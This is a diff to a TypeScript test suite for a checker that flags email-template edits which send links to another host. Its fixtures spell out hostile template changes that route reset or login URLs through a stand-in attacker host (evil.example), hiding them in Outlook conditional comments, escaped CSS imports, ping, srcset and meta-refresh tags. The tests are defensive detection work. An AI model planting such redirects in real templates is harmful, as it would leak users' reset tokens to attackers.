@@ -12,94 +12,58 @@ function changes(body: 'txt' | 'html', before: string | null, after: string): st
 const link = (address: string): string => `<p><a href="${address}">Go on</a></p>`;
 
 describe('the links of an email', () => {
-  it.each<[string, string, string[]]>([
+  const evil = 'https://evil.example/?u={{ url }}';
+  const seen = link('{{ url }}');
+
+  it.each([
     // An address of the server within another one.
-    [
-      link('{{ url }}'),
-      link('https://evil.example/?u={{ url }}'),
-      ['! {{ url }} → https://evil.example/?u={{ url }}'],
-    ],
-    [link('{{url}}'), link('{{{ url }}}@evil.example'), ['! {{ url }} → {{ url }}@evil.example']],
-    [link('{{ url }}'), link('?u={{ url }}'), ['! {{ url }} → ?u={{ url }}']],
-    [
-      link('{{ url }}'),
-      `${link('{{ url }}')}<img src="https://evil.example/{{& url }}">`,
-      ['! null → https://evil.example/{{ url }}'],
-    ],
-    [
-      link('{{ url }}'),
-      `{{=<% %>=}}${link('https://evil.example/?<% url %>')}`,
-      ['! {{ url }} → https://evil.example/?{{ url }}'],
-    ],
-    [
-      '<!--[if mso]><v:roundrect href="{{ url }}"></v:roundrect><![endif]--><!--[if !mso]><!--><a href="{{ url }}">x</a><!--<![endif]--><b>y</b>',
-      '<!--[if mso]><v:roundrect href="https://evil.example/?{{ url }}"></v:roundrect><![endif]--><!--[if !mso]><!--><a href="{{ url }}">x</a><!--<![endif]--><b>y</b>',
-      ['! {{ url }} → https://evil.example/?{{ url }}'],
-    ],
+    ['{{ url }}', evil, true],
+    ['{{ url }}', '?u={{ url }}', true],
     // Another host.
-    [
-      link('https://a.example/x'),
-      link('https://b.example/x'),
-      ['! https://a.example/x → https://b.example/x'],
-    ],
-    [
-      link('https://a.example/x'),
-      link('https:\\\\b.example/x'),
-      ['! https://a.example/x → https:\\\\b.example/x'],
-    ],
-    [
-      link('https://a.example'),
-      link('https://a.example@b.example'),
-      ['! https://a.example → https://a.example@b.example'],
-    ],
-    [
-      link('{{ base }}/reset'),
-      link('{{ base }}.b.example/reset'),
-      ['! {{ base }}/reset → {{ base }}.b.example/reset'],
-    ],
-    [
-      link('mailto:me@a.example'),
-      link('mailto:me@b.example'),
-      ['! mailto:me@a.example → mailto:me@b.example'],
-    ],
-    [
-      '<form action="https://a.example">',
-      '<form action="https://b.example">',
-      ['! https://a.example → https://b.example'],
-    ],
+    ['https://a.example/x', 'https://b.example/x', true],
+    ['https://a.example/x', 'https:\\\\b.example/x', true],
+    ['https://a.example', 'https://a.example@b.example', true],
+    ['{{ base }}/reset', '{{ base }}.b.example/reset', true],
+    ['mailto:me@a.example', 'mailto:me@b.example', true],
     // The same host.
-    [link('https://a.example/x'), link('https://A.example/y'), ['https://a.example/x → https://A.example/y']],
-    [link('{{ base }}/x'), link('{{ base }}/y'), ['{{ base }}/x → {{ base }}/y']],
-    [
-      link('mailto:me@a.example'),
-      link('mailto:you@a.example'),
-      ['mailto:me@a.example → mailto:you@a.example'],
-    ],
+    ['https://a.example/x', 'https://A.example/y', false],
+    ['{{ base }}/x', '{{ base }}/y', false],
+    ['mailto:me@a.example', 'mailto:you@a.example', false],
+  ])('%s, then %s, leads elsewhere: %s', (from, to, elsewhere) => {
+    expect(changes('html', link(from), link(to))).toEqual([`${elsewhere ? '! ' : ''}${from} → ${to}`]);
+  });
+
+  const outlook = (href: string): string =>
+    `<!--[if mso]><v:roundrect href="${href}"></v:roundrect><![endif]--><!--[if !mso]><!-->${seen}<!--<![endif]-->`;
+  const stolen = 'https://evil.example/?{{ url }}';
+
+  it.each<[string, string, string[]]>([
+    [link('{{url}}'), link('{{{ url }}}@evil.example'), ['! {{ url }} → {{ url }}@evil.example']],
+    [seen, `${seen}<img src="https://evil.example/{{& url }}">`, ['! null → https://evil.example/{{ url }}']],
+    [seen, `{{=<% %>=}}${link('https://evil.example/?<% url %>')}`, [`! {{ url }} → ${stolen}`]],
+    [outlook('{{ url }}'), outlook(stolen), [`! {{ url }} → ${stolen}`]],
+    ['<form action="https://a.b">', '<form action="https://c.d">', ['! https://a.b → https://c.d']],
     // No change, or none of a link.
-    [link('{{ url }}'), `<h1>Hi {{ name }}</h1>${link(' {{{url}}} ')}`, []],
+    [seen, `<h1>Hi {{ name }}</h1>${link(' {{{url}}} ')}`, []],
     [link('a') + link('b'), link('b') + link('a'), []],
     ['<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,BBBB">', []],
-    [link('{{ url }}'), '<p>gone</p>', ['{{ url }} → null']],
+    [seen, '<p>gone</p>', ['{{ url }} → null']],
   ])('%j, then %j', (before, after, expected) => {
     expect(changes('html', before, after)).toEqual(expected);
   });
 
   it.each<[string, string, string[]]>([
+    ['Open {{ url }} now.', `Open ${evil} now.`, [`! {{ url }} → ${evil}`]],
     [
-      'Open {{ url }} now.',
-      'Open https://evil.example/?u={{ url }} now.',
-      ['! {{ url }} → https://evil.example/?u={{ url }}'],
-    ],
-    [
-      'Open: ({{ reset_url }}).',
-      'Open evil.example?{{ reset_url }}',
-      ['! {{ reset_url }} → evil.example?{{ reset_url }}'],
+      'Open: ({{ my_url }}).',
+      'Open evil.example?{{ my_url }}',
+      ['! {{ my_url }} → evil.example?{{ my_url }}'],
     ],
     ['See https://a.example.', 'See https://b.example!', ['! https://a.example → https://b.example']],
     ['Link:{{ user.resetUrl }}', 'Link: <{{ user.resetUrl }}>,', []],
     [
       'Hi {{ name }}',
-      'Hi {{ name }}, see https://a.example/?n={{ name }}',
+      'Hi, see https://a.example/?n={{ name }}',
       ['! null → https://a.example/?n={{ name }}'],
     ],
     ['https://a.example', 'https://a.example, again: https://a.example/x', ['null → https://a.example/x']],
@@ -108,38 +72,18 @@ describe('the links of an email', () => {
     expect(changes('txt', before, after)).toEqual(expected);
   });
 
-  it.each([
-    ['an address in the text', '<p>{{ url }}</p>', '<p>https://evil.example/?u={{ url }}</p>'],
-    [
-      'a refresh',
-      '<meta http-equiv="refresh" content="5; url={{ url }}">',
-      '<meta http-equiv="refresh" content="5; url=https://evil.example/?u={{ url }}">',
-    ],
-    ['a ping', '<a ping="{{ url }}">', '<a ping="https://evil.example/?u={{ url }}">'],
-    ['a source set', '<img srcset="{{ url }} 2x">', '<img srcset="https://evil.example/?u={{ url }} 2x">'],
-    [
-      'a style',
-      '<p style="background: url({{ url }})">',
-      '<p style="background: url(\'https://evil.example/?u={{ url }}\')">',
-    ],
-    [
-      'an import, escaped',
-      '<style>@import "{{ url }}";</style>',
-      '<style>@\\69mport "https://evil.example/?u={{ url }}";</style>',
-    ],
-    [
-      'a set of pictures',
-      '<p style="--a: image-set(\'{{ url }}\' 1x)">',
-      '<p style="--a: image-set(\'https://evil.example/?u={{ url }}\' 1x)">',
-    ],
-    [
-      'a style sheet',
-      '<style>p { background: url({{ url }}) }</style>',
-      '<style>p { background: url(https://evil.example/?u={{ url }}) }</style>',
-    ],
-  ])('count in %s', (_, before, after) => {
-    expect(changes('html', before, after)).toEqual(['! {{ url }} → https://evil.example/?u={{ url }}']);
-    expect(changes('html', before, before)).toEqual([]);
+  it.each<[string, (url: string) => string]>([
+    ['an address in the text', (url) => `<p>${url}</p>`],
+    ['a refresh', (url) => `<meta http-equiv="refresh" content="5; url=${url}">`],
+    ['a ping', (url) => `<a ping="${url}">`],
+    ['a source set', (url) => `<img srcset="${url} 2x">`],
+    ['a style', (url) => `<p style="background: url('${url}')">`],
+    ['an import, escaped', (url) => `<style>@\\69mport "${url}";</style>`],
+    ['a set of pictures', (url) => `<p style="--a: image-set('${url}' 1x)">`],
+    ['a style sheet', (url) => `<style>p { background: url(${url}) }</style>`],
+  ])('count in %s', (_, body) => {
+    expect(changes('html', body('{{ url }}'), body(evil))).toEqual([`! {{ url }} → ${evil}`]);
+    expect(changes('html', body('{{ url }}'), body('{{ url }}'))).toEqual([]);
   });
 
   it('of a body that is new are compared with the addresses of the other one', () => {
